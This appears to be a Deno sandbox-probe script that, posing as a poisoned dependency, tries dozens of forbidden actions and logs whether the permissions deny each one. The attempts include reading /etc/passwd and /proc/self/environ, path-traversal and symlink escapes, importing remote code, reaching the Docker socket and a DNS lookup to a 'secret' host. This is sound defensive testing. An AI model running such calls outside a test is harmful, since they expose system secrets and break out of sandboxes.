/**
 * Tries what Penstock's own code never does, under the permissions baked into it, as code in a poisoned dependency
 * would. Prints one line of JSON for each attempt.
 */

/** The result of one attempt. */
export interface Probed {
  readonly attempt: string;
  /** The error message; null if the attempt succeeded. */
  readonly denied: string | null;
}

import { backup, DatabaseSync } from "node:sqlite";
import { open as openDebugger } from "node:inspector";
import { createRequire } from "node:module";
import { userInfo } from "node:os";
import process from "node:process";

/** Specifiers that no tool resolves before the code runs. */
const ELSEWHERE = ["https://example.org/code.js", "file:///etc/passwd"];
const UDP = { transport: "udp", hostname: "0.0.0.0", port: 0 } as const;

/** The attempts, by their names in the table. */
export const ATTEMPTS: Readonly<Record<string, () => unknown>> = {
  "connect to another host": () => Deno.connect({ hostname: "example.org", port: 443 }),
  "connect to another port": () => Deno.connect({ hostname: "stream.binance.com", port: 443 }),
  "connect to an IP address": () => Deno.connect({ hostname: "127.0.0.1", port: 9443 }),
  "fetch from another host": () => fetch("https://example.org/"),
  "follow a redirect elsewhere": () => fetch("https://api.binance.com/api/v3/time"),
  "open a WebSocket elsewhere": async () => await new WebSocketStream("wss://example.org/").opened,
  "use its own proxy": () => Deno.createHttpClient({ proxy: { url: "http://127.0.0.1:3128" } }),
  "reach a socket of the machine": () => Deno.connect({ transport: "unix", path: "/var/run/docker.sock" }),
  "ask a name server": () =>
    Deno.resolveDns("secret.example.org", "A", { nameServer: { ipAddr: "127.0.0.1" } }),
  "send UDP": () => Deno.listenDatagram(UDP),
  "speak QUIC": () => new Deno.QuicEndpoint(),
  "listen on a socket in data": () => Deno.listen({ transport: "unix", path: "/data/socket" }),
  "open the debugger": () => openDebugger(9229, "127.0.0.1"),
  "listen": () => Deno.listen({ hostname: "127.0.0.1", port: 8080 }),
  "read /etc/passwd": () => Deno.readTextFileSync("/etc/passwd"),
  "read it by another path": () => Deno.readTextFileSync("/data/../etc/passwd"),
  "read /proc/self/environ": () => Deno.readTextFileSync("/proc/self/environ"),
  "check whether a file exists": () => Deno.statSync("/etc/passwd"),
  "read it in a worker": () => readInWorker("/etc/passwd"),
  "load it as text": () => import(ELSEWHERE[1]!, { with: { type: "text" } }),
  "link it into data": () => Deno.linkSync("/etc/passwd", "/data/passwd"),
  "move a file out of data": () => {
    Deno.writeTextFileSync("/data/out", "");
    Deno.renameSync("/data/out", "/out");
  },
  "write beside data": () => Deno.writeTextFileSync("/data/../x", ""),
  "link out of data": () => Deno.symlinkSync("/etc/passwd", "/data/passwd"),
  "attach another database": () => new DatabaseSync("/data/probe.db").exec("ATTACH '/tmp/x.db' AS x"),
  "copy a database out of data": () => backup(new DatabaseSync("/data/probe.db"), "/dev/shm/x.db"),
  "load code into SQLite": () =>
    new DatabaseSync("/data/probe.db", { allowExtension: true }).loadExtension(
      "/lib/x86_64-linux-gnu/libm.so.6",
    ),
  "run code from elsewhere": () => import(ELSEWHERE[0]!),
  "load a Node add-on": () => createRequire("file:///app/main.ts")("/lib/addon.node"),
  "signal another process": () => Deno.kill(Deno.ppid, "SIGCONT"),
  "start a program": () => new Deno.Command("/penstock", { args: ["--version"] }).outputSync(),
  "read the environment": () => Deno.env.get("HOME"),
  "read it as Node does": () => process.env["HOME"],
  "write the environment": () => Deno.env.set("NO_PROXY", ""),
  "ask for the machine's name": () => Deno.hostname(),
  "ask for the user's name": () => userInfo(),
  "load a library": () => Deno.dlopen("/lib/x86_64-linux-gnu/libm.so.6", {}),
  "ask for more": async () => {
    const { state } = await Deno.permissions.request({ name: "run" });
    if (state !== "granted") throw new Error(`run: ${state}, without a question`);
  },
};

/** Reads a file in a worker with its parent's permissions; rejects with the worker's error. */
async function readInWorker(path: string): Promise<void> {
  const code = `
    try { Deno.readTextFileSync(${JSON.stringify(path)}); postMessage(null); }
    catch (error) { postMessage(error.name + ": " + error.message); }`;
  const worker = new Worker(`data:application/javascript,${encodeURIComponent(code)}`, { type: "module" });
  const { promise, resolve } = Promise.withResolvers<string | null>();
  worker.onmessage = ({ data }) => resolve(data);
  const denied = await promise;
  worker.terminate();
  if (denied !== null) throw new Error(denied);
}

if (import.meta.main) {
  for (const [attempt, act] of Object.entries(ATTEMPTS)) {
    let denied: string | null = null;
    try {
      await act();
    } catch (error) {
      denied = error instanceof Error ? `${error.name}: ${error.message}` : String(error);
    }
    console.log(JSON.stringify({ attempt, denied } satisfies Probed));
  }
  Deno.exit();
}
